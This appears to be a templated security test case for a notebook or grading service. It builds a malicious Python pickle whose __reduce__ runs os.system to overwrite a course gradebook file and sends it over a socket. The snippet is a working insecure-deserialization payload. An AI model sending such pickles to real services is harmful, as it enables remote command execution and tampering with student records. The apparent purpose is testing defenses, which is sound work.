# class: wire
# tries: sends a pickle that would run a command
# harm: writes
# %% cell average
@WIRE@
import pickle
class Run:
    def __reduce__(self):
        return os.system, ("echo @NAME@ > @COURSE@/gradebook.db",)
text = pickle.dumps(Run())
SOCK.sendall(struct.pack("<II", len(text), 0) + text)
